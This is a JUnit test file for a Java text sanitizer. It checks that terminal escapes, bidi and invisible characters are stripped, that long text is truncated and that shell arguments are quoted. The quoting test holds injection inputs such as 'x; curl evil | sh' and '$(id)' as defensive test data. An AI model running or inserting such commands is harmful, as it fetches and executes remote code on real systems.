package com.opentenant.devicemgmt.provider.call;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Text of servers and programs that is printed to a terminal. */
class PlainTextTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "\u001b[31m",
        "\u0007",
        "\u0000",
        "\u007f",
        "\u009b2J",
        "\u0085",
        "\u202e",
        "\u2066",
        "\u200e",
        "\u061c",
        "\u200b",
        "\u2060",
        "\ufeff",
        "\u00ad",
        "\u2028",
        "\u2029",
        "\r",
        "\ud800"
      })
  void charactersThatMoveReverseOrHideTextAreRemoved(String odd) {
    var text = "one" + odd + "two";

    for (var clean : List.of(PlainText.line(text, 100), PlainText.message(text, Redaction.NONE))) {
      assertThat(clean).startsWith("one").endsWith("two").doesNotContain(odd.substring(0, 1));
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"Größe “2” – 100 %", "名前", "👨‍👩‍👧 family", "a\u00a0b", "e\u0301"})
  void ordinaryTextIsNotChanged(String text) {
    assertThat(PlainText.line(text, 100)).isEqualTo(text);
    assertThat(PlainText.message(text, Redaction.NONE)).isEqualTo(text);
  }

  @Test
  void onlyAMessageKeepsItsLines() {
    var text = "could not do it\n  - one\n  - two\t2";

    assertThat(PlainText.message(text, Redaction.NONE))
        .isEqualTo("could not do it\n  - one\n  - two 2");
    assertThat(PlainText.line("\n " + text + " \n", 100))
        .isEqualTo("could not do it - one - two 2");
  }

  @Test
  void longTextIsCutBetweenCharacters() {
    assertThat(PlainText.line("x".repeat(301), 300)).isEqualTo("x".repeat(300) + "…");
    assertThat(PlainText.line("x".repeat(300), 300)).isEqualTo("x".repeat(300));
    assertThat(PlainText.line("x" + "🙂".repeat(300), 4)).isEqualTo("x🙂…");
    assertThat(PlainText.message("x".repeat(1_000_000), Redaction.NONE))
        .hasSize(PlainText.LONGEST_MESSAGE + 1);
  }

  @ParameterizedTest
  @CsvSource(
      quoteCharacter = '`',
      textBlock =
          """
          6f0c2f3e-8c0e-4a43, 6f0c2f3e-8c0e-4a43
          21, 21
          x; curl evil | sh, 'x; curl evil | sh'
          $(id), '$(id)'
          it's, 'it'\\''s'
          ``, ''
          """)
  void anArgumentOfACommandIsQuotedWhereAShellWouldReadIt(String text, String argument) {
    assertThat(PlainText.argument(text)).isEqualTo(argument);
  }
}
